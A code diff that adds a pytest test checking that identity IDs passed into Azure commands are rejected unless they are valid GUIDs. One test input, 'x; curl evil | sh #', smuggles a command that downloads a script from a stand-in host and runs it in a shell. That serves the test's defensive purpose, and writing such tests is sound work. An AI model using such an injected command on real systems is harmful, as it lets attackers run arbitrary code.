@@ -119,6 +119,14 @@ def test_a_mode_or_an_authentication_that_is_unknown_is_refused(change: dict[str
         registry(**change)
 
 
+@known_or_not
+@pytest.mark.parametrize("field", ["client_id", "principal_id"])
+@pytest.mark.parametrize("wrong", ["puller", "x; curl evil | sh #", "11111111-1111-1111-1111-11111111111g"])
+def test_ids_that_go_into_commands_are_guids(field: str, wrong: str, known: bool) -> None:
+    message = refusal(identity, known, **{field: wrong})
+    assert message.startswith(f"{WHERE}: pull_identity {field} {wrong!r} is not a GUID; give it as `az identity show")
+
+
 def test_a_registry_that_exists_already_is_used_like_one_of_ours() -> None:
     azure = simulate(shop()).azure
     [registry] = azure.of_type("Microsoft.ContainerRegistry/registries")
